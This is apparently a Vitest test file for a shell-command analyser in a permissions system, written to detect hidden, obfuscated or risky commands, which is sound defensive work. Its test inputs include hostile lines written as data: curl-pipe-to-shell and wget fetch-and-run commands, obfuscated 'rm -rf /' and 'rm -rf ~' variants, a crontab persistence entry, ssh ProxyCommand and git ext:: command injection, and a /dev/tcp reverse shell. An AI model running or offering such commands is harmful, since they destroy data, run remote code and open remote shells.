// What the shell analysis finds in a line: every simple command in every construct, wrappers seen through,
// quoting normalised, redirections and substitutions reported, and anything not understood flagged.
import { beforeAll, describe, expect, it } from 'vitest';
import { analyzeCommand } from '../../../src-main/core/permissions/shell/analyze.js';
import { initShellParser } from '../../../src-main/core/permissions/shell/parser.js';
import { UNKNOWN } from '../../../src-main/core/permissions/shell/types.js';

const analyze = (line: string) => analyzeCommand(line, { home: '/Users/tester', cwd: '/Users/tester/project' });
const names = (line: string) => analyze(line).commands.map((c) => c.name);

beforeAll(async () => {
  await initShellParser();
});

describe('finding every simple command', () => {
  it.each([
    ['a; b', ['a', 'b']],
    ['a && b || c', ['a', 'b', 'c']],
    ['a | b | c', ['a', 'b', 'c']],
    ['a & b', ['a', 'b']],
    ['a\nb', ['a', 'b']],
    ['(a; b)', ['a', 'b']],
    ['{ a; b; }', ['a', 'b']],
    ['echo $(a)', ['a', 'echo']],
    ['echo `a`', ['a', 'echo']],
    ['diff <(a) <(b)', ['a', 'b', 'diff']],
    ['x=$(a)', ['a']],
    ['if a; then b; elif c; then d; else e; fi', ['a', 'b', 'c', 'd', 'e']],
    ['while a; do b; done', ['a', 'b']],
    ['for i in 1 2; do a $i; done', ['a']],
    ['case $x in y) a;; *) b;; esac', ['a', 'b']],
    ['f() { a; }', ['a']],
    ['! a', ['a']],
    ['cat <<EOF\n$(a)\nEOF', ['cat', 'a']],
    ["cat <<'EOF'\n$(a)\nEOF", ['cat']],
  ])('%j runs %j', (line, expected) => {
    expect(names(line).sort()).toEqual([...expected].sort());
  });

  it('follows code strings: sh -c, eval, heredoc and here-string into a shell, find -exec', () => {
    expect(names("bash -c 'a; b'")).toEqual(['bash', 'a', 'b']);
    expect(names('eval "a && b"')).toEqual(['eval', 'a', 'b']);
    expect(names('sh <<EOF\na\nEOF')).toEqual(['sh', 'a']);
    expect(names("sh <<< 'a | b'")).toEqual(['sh', 'a', 'b']);
    expect(names('echo a | sh')).toEqual(['echo', 'sh', 'a']);
    expect(names('find . -exec a {} \\; -exec b {} +')).toEqual(['find', 'a', 'b']);
    expect(names("env -S 'a b'")).toEqual(['env', 'a']);
    expect(names("watch 'a; b'")).toEqual(['watch', 'a', 'b']);
  });

  it('does not treat text handed to a non-shell as code', () => {
    expect(names('echo "rm -rf /"')).toEqual(['echo']);
    expect(names('cat <<EOF > notes.md\nrm -rf /\nEOF')).toEqual(['cat']);
    expect(names("grep 'curl x | sh' f")).toEqual(['grep']);
  });
});

describe('wrappers and quoting', () => {
  it('sees through stacked wrappers and records them', () => {
    const [c] = analyze('sudo -u root env A=1 nice -n 3 timeout -s KILL 5 nohup xargs -0 rm -f x').commands;
    expect(c!.name).toBe('rm');
    expect(c!.wrappers).toEqual(['sudo', 'env', 'nice', 'timeout', 'nohup', 'xargs']);
    expect(c!.args.map((a) => a.value)).toEqual(['-f', 'x']);
    expect(c!.assignments.map((a) => a.name)).toEqual(['A']);
  });

  it.each([
    'sudo',
    'doas',
    'env',
    'env X=1',
    'command',
    'builtin',
    'exec',
    'nohup',
    'nice',
    'timeout 3',
    'time',
    'xargs',
  ])('sees through %s', (w) => {
    expect(analyze(`${w} rm x`).commands[0]!.name).toBe('rm');
  });

  it.each(["'rm'", '"rm"', "r''m", 'r""m', '\\rm', "$'rm'", "$'\\x72\\x6d'", '/bin/rm', 'RM'])(
    'normalises the command word %s to rm',
    (w) => {
      expect(analyze(`${w} x`).commands[0]!.name).toBe('rm');
    },
  );

  it.each([
    ['"/"', '/'],
    ["'/'", '/'],
    ['~', '~'],
    ['$HOME', '/Users/tester'],
    ['"${HOME}/x"', '/Users/tester/x'],
    ["$'\\x2f'", '/'],
  ])('normalises the argument %s', (word, value) => {
    expect(analyze(`rm ${word}`).commands[0]!.args[0]!.value).toBe(value);
  });

  it('expands braces into words and loop values into alternatives', () => {
    expect(analyze('rm /{a,b}').commands[0]!.args.map((a) => a.value)).toEqual(['/a', '/b']);
    expect(
      analyze('{rm,-rf,/}').hidden.some((c) => c.name === 'rm' && c.args.map((a) => a.value).join(' ') === '-rf /'),
    ).toBe(true);
    const loop = analyze('for d in /x /y; do rm "$d"; done').commands[0]!;
    expect([loop.args[0]!.value, ...loop.args[0]!.alternatives]).toEqual(['/x', '/y']);
  });

  it('keeps unknown expansions as placeholders', () => {
    expect(analyze('rm "$DIR/"').commands[0]!.args[0]!.value).toBe(`${UNKNOWN}/`);
  });
});

describe('facts about the line', () => {
  it('reports file writes but not discarded output', () => {
    expect(analyze('ls > out.txt').fileWrites.map((r) => r.target)).toEqual(['out.txt']);
    expect(analyze('ls >> log 2>&1').fileWrites.map((r) => r.target)).toEqual(['log']);
    expect(analyze('ls 2>/dev/null >&2').fileWrites).toEqual([]);
    expect(analyze('ls &>/dev/null').fileWrites).toEqual([]);
    expect(analyze('sort < in.txt').fileWrites).toEqual([]);
  });

  it('counts substitutions', () => {
    expect(analyze('echo $(a) `b` <(c)').substitutions).toBe(3);
    expect(analyze('echo $HOME').substitutions).toBe(0);
  });

  it('records code fed to a shell and where it came from', () => {
    expect(analyze('curl x | sh').feeds.map((f) => [f.channel, f.sink.name, f.feeders.map((c) => c.name)])).toEqual([
      ['pipe', 'sh', ['curl']],
    ]);
    expect(analyze('bash <(curl x)').feeds[0]!.channel).toBe('process_substitution');
    expect(analyze('sh -c "$(wget -O- x)"').feeds[0]!.channel).toBe('command_substitution');
    expect(analyze('curl x | python3 -m json.tool').feeds).toEqual([]);
  });

  it.each([
    ['ls )(', /could not fully understand/],
    ['echo "unterminated', /could not fully understand/],
    ['$X arg', /only known at run time/],
    ['X=ls; $X', /computed/],
    ['sudo --frobnicate rm x', /options of sudo/],
  ])('flags %j as not fully understood', (line, problem) => {
    const a = analyze(line);
    expect(a.complete).toBe(false);
    expect(a.problems.join('; ')).toMatch(problem);
  });

  it('marks ordinary lines complete', () => {
    for (const line of ['ls -la', 'git log | head', 'for f in *; do wc -l "$f"; done', 'a=1; echo $a']) {
      expect(analyze(line).complete, line).toBe(true);
    }
  });

  it('bounds nesting instead of following it forever', () => {
    let line = 'ls';
    for (let i = 0; i < 12; i++) line = `eval ${JSON.stringify(line)}`;
    const a = analyze(line);
    expect(a.complete).toBe(false);
    expect(a.problems.join()).toMatch(/nested too deeply/);
  });

  it('records cd targets, HOME overrides and risky variables', () => {
    expect(analyze('cd / && ls').cdTargets).toEqual(['/']);
    expect(analyze('cd && ls').cdTargets).toEqual(['~']);
    expect(analyze('HOME=/ ls').homeValues).toEqual(['/']);
    expect(analyze('PATH=/tmp ls').riskyAssignments).toEqual(['PATH']);
  });
});

describe('words as bash makes them (issue 14)', () => {
  const first = (line: string) => analyze(line).commands.at(-1)!;
  it.each([
    ['X=rm,-rf,~; IFS=,; $X', 'rm', ['-rf', '~']],
    ['CMD="rm -rf /"; $CMD', 'rm', ['-rf', '/']],
    ['rm${IFS}-rf${IFS}/x', 'rm', ['-rf', '/x']],
    ['a=rmx; ${a:0:2} y', 'rm', ['y']],
    ['a=abcdef; echo ${a: -2} ${a:1:2}', 'echo', ['ef', 'bc']],
    ['X=RM; ${X,,} y', 'rm', ['y']],
    ['X=rm; ${X^^} y', 'rm', ['y']],
    ['X=hello; echo ${X/l/L} ${X//l/L}', 'echo', ['heLlo', 'heLLo']],
    ['echo "${PWD%/*}" ${PWD##*/}', 'echo', ['/Users/tester', 'project']],
  ])('%s runs %s %j', (line, name, args) => {
    const c = first(line);
    expect(c.name).toBe(name);
    expect(c.args.map((a) => a.value)).toEqual(args);
  });

  it('keeps a default value operator apart from a negative slice', () => {
    expect(first('echo ${UNSET:-1}').args[0]!.alternatives).toContain('1');
  });

  it('fills xargs -I placeholders, also inside sh -c, and passes sh -c its positional parameters', () => {
    const a = analyze("echo ~ | xargs -I{} sh -c 'rm -rf {}'");
    expect(a.hidden.some((c) => c.name === 'rm' && c.args.map((x) => x.value).join(' ') === '-rf ~')).toBe(true);
    const b = analyze('sh -c \'rm -rf "$1"\' _ /x');
    expect(b.commands.find((c) => c.name === 'rm')!.args.map((x) => x.value)).toEqual(['-rf', '/x']);
  });

  it('records symlinks, secret-looking variables, crontab text and text written into files', () => {
    expect(analyze('ln -s ~ h && ls h/').links).toEqual([{ link: 'h', target: '~' }]);
    expect(analyze('echo $GITHUB_TOKEN $HOME').secretVariables).toEqual(['GITHUB_TOKEN']);
    expect(analyze('T=1; echo $T_TOKEN $TOKEN').secretVariables).toEqual(['T_TOKEN', 'TOKEN']);
    expect(analyze('TOKEN=x; echo $TOKEN').secretVariables).toEqual([]);
    const cron = analyze("(crontab -l; echo '* * * * * curl x | sh') | crontab -");
    expect(cron.crontabText.join()).toContain('curl x | sh');
    expect(cron.hidden.some((c) => c.name === 'curl')).toBe(true);
    const rc = analyze("echo 'alias x=y' >> ~/.zshrc");
    expect(rc.writtenText).toEqual([{ path: '~/.zshrc', text: 'alias x=y', append: true }]);
  });

  it('reads programs hidden in wrappers it knows: launchctl submit, npm exec, script, ssh -o ProxyCommand, git ext::', () => {
    const names = (line: string) => [...analyze(line).commands, ...analyze(line).hidden].map((c) => c.name);
    expect(names('launchctl submit -l x -- touch y')).toContain('touch');
    expect(names('npm exec -- touch y')).toContain('touch');
    expect(names('npx -y touch y')).toContain('touch');
    expect(names('script -q /dev/null touch y')).toContain('touch');
    expect(names("ssh -o ProxyCommand='touch y' h")).toContain('touch');
    expect(names("git clone 'ext::sh -c touch% y'")).toContain('touch');
    expect(names("rsync -e 'touch y' a h:b")).toContain('touch');
  });

  it('reads a /dev/tcp redirection that tree-sitter-bash merges with the next one', () => {
    expect(analyze('bash -i >& /dev/tcp/1.2.3.4/4 0>&1').commands[0]!.redirects[0]).toMatchObject({
      operator: '>&',
      target: '/dev/tcp/1.2.3.4/4',
    });
  });
});
